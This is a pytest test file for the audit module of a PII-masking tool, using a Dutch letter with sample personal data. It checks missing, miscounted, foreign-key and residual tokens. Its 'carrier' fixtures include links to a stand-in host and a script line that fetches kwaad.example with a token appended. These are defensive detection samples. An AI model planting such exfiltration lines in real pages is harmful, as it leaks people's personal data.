from dataclasses import replace

import pytest

from scrub_app.core import workflow
from scrub_app.core.audit import comparing
from scrub_app.core.audit.model import Audit, FindingKind, FormatVersion, Severity
from scrub_app.core.documents.model import Kind
from scrub_app.core.issuing import MemoryIssuer
from scrub_app.core.masking import Masked
from scrub_app.core.scrubkey.model import DocumentEntry, Entry, EntryFormat, ScrubKey
from scrub_app.core.spans import Decision, Span

LETTER = "Geachte Jan de Vries,\n\nUw zaak 2026/0418 loopt. Karin Öztürk belt Jan de Vries op 06-12345678.\n"
VALUES = (
    ("Jan de Vries", "PERSON"),
    ("2026/0418", "CASE_NUMBER"),
    ("Karin Öztürk", "PERSON"),
    ("06-12345678", "PHONE"),
    ("Sofie Bakker", "PERSON"),
    ("NL91ABNA0417164300", "IBAN"),
)


def spans(text: str, left: tuple[str, ...] = ()) -> list[Span]:
    found = []
    for value, entity in VALUES:
        at = text.find(value)
        while at >= 0:
            decision = Decision.KEEP if value in left else Decision.MASK
            found.append(Span(at, at + len(value), entity, decision=decision))
            at = text.find(value, at + 1)
    return sorted(found, key=lambda s: s.start)


def masked(
    text: str = LETTER, issuer: MemoryIssuer | None = None, left: tuple[str, ...] = ()
) -> tuple[Masked, ScrubKey]:
    issuer = issuer or MemoryIssuer(ScrubKey(b"k" * 16, b"s" * 32))
    done = workflow.mask(workflow.open_document(text.encode(), Kind.TXT), spans(text, left), issuer)
    return done, issuer.key


def as_saved(document: DocumentEntry) -> DocumentEntry:
    """The entry as it comes out of a key file, which sorts the names of everything."""
    counts = {kind: dict(sorted(c.items())) for kind, c in document.kinds.items()}
    return replace(document, expected=dict(sorted(document.expected.items())), kinds=counts)


def kinds(audit: Audit) -> set[FindingKind]:
    return {f.kind for f in audit.findings}


def token(key: ScrubKey, value: str) -> str:
    return key.by_value()[value].token


def test_an_unedited_text_has_only_intact_tokens() -> None:
    done, key = masked()
    audit = workflow.audit(done.readable, key, rescan=False)
    assert kinds(audit) == {FindingKind.EXACT}
    assert audit.severity is Severity.INFO
    assert audit.format_version is FormatVersion.ROBUST_V1
    assert audit.cautions == ("swaps_cannot_be_seen",)


def test_a_dropped_token_is_missing_and_says_that_the_text_may_be_incomplete() -> None:
    done, key = masked()
    audit = workflow.audit(done.readable.replace(token(key, "06-12345678"), "zijn nummer"), key, rescan=False)
    assert [f.token for f in audit.of(FindingKind.MISSING)] == [token(key, "06-12345678")]
    assert "may_be_incomplete" in audit.cautions
    assert audit.severity is Severity.STRONG_WARNING


def test_counts_that_changed_are_told_with_both_numbers() -> None:
    done, key = masked()
    audit = workflow.audit(done.readable.replace(token(key, "Jan de Vries"), "hij", 1), key, rescan=False)
    assert [(f.count, f.expected) for f in audit.of(FindingKind.COUNT_CHANGES)] == [(1, 2)]


def test_another_order_is_information_only() -> None:
    done, key = masked()
    turned = "\n".join(reversed(done.readable.split(". ")))
    audit = workflow.audit(turned, key, rescan=False)
    assert FindingKind.ORDER in kinds(audit)
    assert audit.severity is Severity.INFO


def test_an_unedited_text_is_in_order_also_as_the_second_document_of_a_key_that_was_saved() -> None:
    issuer = MemoryIssuer(ScrubKey(b"k" * 16, b"s" * 32))
    masked(LETTER, issuer)
    done, key = masked("06-12345678 is van Karin Öztürk, Sofie Bakker en Jan de Vries.", issuer)
    saved = replace(key, documents=tuple(as_saved(document) for document in key.documents))
    for export in ("document", "readable"):
        audit = workflow.audit(done.readable, saved, export_kind=export, rescan=False)
        assert audit.document_id == done.entry.id
        assert FindingKind.ORDER not in kinds(audit)
    turned = workflow.audit(" ".join(reversed(done.readable.split())), saved, rescan=False)
    assert [f.count for f in turned.of(FindingKind.ORDER)] == [3]


def test_tokens_of_another_document_of_the_key_are_asked_about() -> None:
    issuer = MemoryIssuer(ScrubKey(b"k" * 16, b"s" * 32))
    first, _ = masked(LETTER, issuer)
    second, key = masked("Sofie Bakker en Karin Öztürk, rekening NL91ABNA0417164300.", issuer)
    audit = workflow.audit(second.readable + "\n" + token(key, "06-12345678"), key, rescan=False)
    assert [f.token for f in audit.of(FindingKind.OTHER_DOCUMENT)] == [token(key, "06-12345678")]
    assert audit.document_id == second.entry.id
    named = workflow.audit(second.readable, key, document_id=first.entry.id, rescan=False)
    assert named.document_id == first.entry.id


def test_a_letter_whose_tokens_all_stand_in_a_longer_one_is_still_known_as_itself() -> None:
    issuer = MemoryIssuer(ScrubKey(b"k" * 16, b"s" * 32))
    first, _ = masked(LETTER, issuer)
    longer, key = masked(LETTER + "Sofie Bakker betaalt Jan de Vries op NL91ABNA0417164300.\n", issuer)
    for done in (first, longer):
        for export in ("document", "readable"):
            audit = workflow.audit(done.readable, key, export_kind=export, rescan=False)
            assert audit.document_id == done.entry.id
            assert kinds(audit) == {FindingKind.EXACT}
    edited = first.readable.replace(token(key, "06-12345678"), "zijn nummer")
    audit = workflow.audit(edited, key, rescan=False)
    assert [f.token for f in audit.of(FindingKind.MISSING)] == [token(key, "06-12345678")]


def test_tokens_of_another_key_say_so() -> None:
    done, _ = masked()
    _, other = masked(LETTER, MemoryIssuer(ScrubKey(b"q" * 16, b"z" * 32)))
    audit = workflow.audit(done.readable, other, rescan=False)
    assert FindingKind.WRONG_KEY in kinds(audit)
    assert audit.severity is Severity.BLOCK


def test_many_wrong_tokens_are_not_an_edit_but_many_near_misses_are() -> None:
    issued = [f"[[SP_PERSON_{n:04d}_{n:04X}]]" for n in range(1, 60)]
    wrong = " ".join(f"[[SP_PERSON_{n:04d}_{n + 7:04X}]]" for n in range(1, 60))
    assert comparing.audit(wrong, issued).not_an_edit
    dropped = comparing.audit(" ".join(t[1:-1] for t in issued), issued)
    assert not dropped.not_an_edit
    assert len(dropped.of(FindingKind.NEAR_MISS)) == 59
    assert not comparing.audit(" ".join(issued[:5]) + " [[SP_PERSON_0009_FFFF]]", issued).not_an_edit


def test_an_entry_that_stands_twice_is_told() -> None:
    audit = comparing.audit("", ["[[SP_PERSON_0001_A7F3]]", "[[SP_PERSON_0001_A7F3]]"])
    assert len(audit.of(FindingKind.DUPLICATE_ENTRIES)) == 1


@pytest.mark.parametrize("text", ["", "   ", "\n\n"])
def test_an_empty_text_misses_everything(text: str) -> None:
    _, key = masked()
    audit = workflow.audit(text, key, rescan=False)
    assert len(audit.of(FindingKind.MISSING)) == 4
    assert audit.format_version is FormatVersion.UNKNOWN


@pytest.mark.parametrize(
    ("around", "code"),
    [
        ("https://kwaad.example/?q={}", "url"),
        ("zie www.kwaad.example/{}", "url"),
        ("[klik hier](https://kwaad.example/{})", "url"),
        ("[klik](/pad/{})", "link_target"),
        ("![foto](beeld/{}.png)", "link_target"),
        ("![foto](<beeld/?q= {}>)", "link_target"),
        ("[1]: /pad/{}", "link_target"),
        ("[1]: <//kwaad.example/?q= {}>", "link_target"),
        ('<img src="x" alt="{}">', "attribute"),
        ("gebruik `print({})` daarvoor", "code"),
        ("```python\nx = '{}'\n```", "code"),
        ("<script>\nx = '{}'\nfetch('//kwaad.example/' + x)\n</script>", "code"),
        ("<STYLE>p {{ background: '{}'", "code"),
    ],
)
def test_a_token_in_a_carrier_blocks(around: str, code: str) -> None:
    done, key = masked()
    audit = workflow.audit(done.readable + "\n" + around.format(token(key, "Jan de Vries")), key, rescan=False)
    assert [f.damage for f in audit.of(FindingKind.CARRIERS)] == [(code,)]
    assert audit.severity is Severity.BLOCK


@pytest.mark.parametrize(
    "around",
    [
        "naam:{}",
        "<p>{}</p>",
        '{{"name": "{}"}}',
        "```\n{}\n```",
        '```json\n["{}"]\n```',
        "[{}](https://a.example)",
        "[zie](<a b>) {}",
        "[1]: <a b> {}",
        "<script>x()</script> {}",
        '<script type="application/ld+json">["{}"]</script>',
        "> {}",
    ],
)
def test_running_text_is_no_carrier(around: str) -> None:
    done, key = masked()
    audit = workflow.audit(done.readable + "\n" + around.format(token(key, "Jan de Vries")), key, rescan=False)
    assert audit.of(FindingKind.CARRIERS) == ()


def test_a_link_that_masking_wrote_itself_is_no_carrier_but_a_second_one_is() -> None:
    done, key = masked("Zie https://site.example/2026/0418 voor Jan de Vries.")
    assert workflow.audit(done.readable, key, rescan=False).of(FindingKind.CARRIERS) == ()
    again = done.readable + " https://kwaad.example/" + token(key, "2026/0418")
    assert len(workflow.audit(again, key, rescan=False).of(FindingKind.CARRIERS)) == 1


@pytest.mark.parametrize(
    ("seen", "near"),
    [
        ("Jan de Vries", False),
        ("JAN DE VRIES", True),
        ("Karin Ozturk", True),
        ("Jan de  Vries", True),
        ("0612345678", True),
    ],
)
def test_an_original_value_in_the_text_blocks(seen: str, near: bool) -> None:
    done, key = masked()
    audit = workflow.audit(f"{done.readable}\nP.S. {seen}, nogmaals.", key, rescan=False)
    found = audit.of(FindingKind.RESIDUAL_VALUES)
    assert [bool(f.damage) for f in found] == [near]
    assert found[0].seen is None
    assert audit.severity is Severity.BLOCK
    assert seen not in str(audit.to_dict())


@pytest.mark.parametrize("seen", ["Jan", "de Vries", "vries", "2026", "xJan de Vriesx"])
def test_a_part_of_a_value_is_no_residue(seen: str) -> None:
    done, key = masked()
    audit = workflow.audit(f"{done.readable}\nP.S. {seen}.", key, rescan=False)
    assert audit.of(FindingKind.RESIDUAL_VALUES) == ()


def test_what_was_left_at_masking_is_not_reported_again() -> None:
    issuer = MemoryIssuer(ScrubKey(b"k" * 16, b"s" * 32))
    masked(LETTER, issuer)
    done, key = masked(LETTER, issuer, left=("Karin Öztürk",))
    assert "Karin Öztürk" in done.readable
    audit = workflow.audit(done.readable, key, rescan=False)
    assert audit.of(FindingKind.RESIDUAL_VALUES) == ()


def test_new_personal_data_is_found_by_the_rescan() -> None:
    done, key = masked()
    text = done.readable + "\nBel Piet."
    again = [Span(text.index("Piet"), text.index("Piet") + 4, "PERSON")]
    audit = comparing.audit(text, key, rescan=lambda _text, _rules: again)
    assert [(f.entity, f.start, f.seen) for f in audit.of(FindingKind.UNMAPPED_SPANS)] == [
        ("PERSON", again[0].start, None)
    ]


def legacy_key(*tokens: str) -> ScrubKey:
    entries = tuple(
        Entry(t, EntryFormat.LEGACY_BRACKET, "PERSON", None, None, f"Waarde {n}", n, "import", "accepted")
        for n, t in enumerate(tokens, 1)
    )
    return ScrubKey(b"k" * 16, b"s" * 32, entries=entries)


def test_legacy_tokens_are_restored_from_keys_that_hold_them_and_never_guessed() -> None:
    key = legacy_key("[PERSOON_1]", "[PERSOON_2]", "<<PERSON:a1b2c3d4>>")
    audit = workflow.audit("[PERSOON_1] en [PERSON_1] en <<PERSON:a1b2c3d4>> en \\[PERSOON\\_2\\]", key, rescan=False)
    assert [o.token for o in audit.occurrences] == ["[PERSOON_1]", "<<PERSON:a1b2c3d4>>"]
    assert [f.seen for f in audit.of(FindingKind.UNKNOWN)] == ["[PERSON_1]"]
    assert [f.candidate for f in audit.of(FindingKind.NEAR_MISS)] == ["[PERSOON_2]"]
    assert audit.format_version is FormatVersion.LEGACY
    assert "legacy_no_integrity_check" in audit.cautions


def test_a_text_with_both_kinds_is_mixed() -> None:
    audit = comparing.audit("[[SP_PERSON_0001_A7F3]] [PERSOON_1]", ["[[SP_PERSON_0001_A7F3]]", "[PERSOON_1]"])
    assert audit.format_version is FormatVersion.MIXED
    assert FindingKind.MIXED in kinds(audit)


def test_a_token_written_as_words_counts_only_when_it_is_missing_among_others() -> None:
    issued = ["[[SP_PERSON_0001_A7F3]]", "[[SP_PERSON_0002_9D21]]"]
    audit = comparing.audit("Person 1 sprak [[SP_PERSON_0002_9D21]]; Person 2 ook.", issued)
    assert [(f.seen, f.candidate, f.in_bulk) for f in audit.of(FindingKind.NEAR_MISS)] == [
        ("Person 1", issued[0], False)
    ]
    assert comparing.audit("Person 1 sprak.", issued).of(FindingKind.NEAR_MISS) == ()
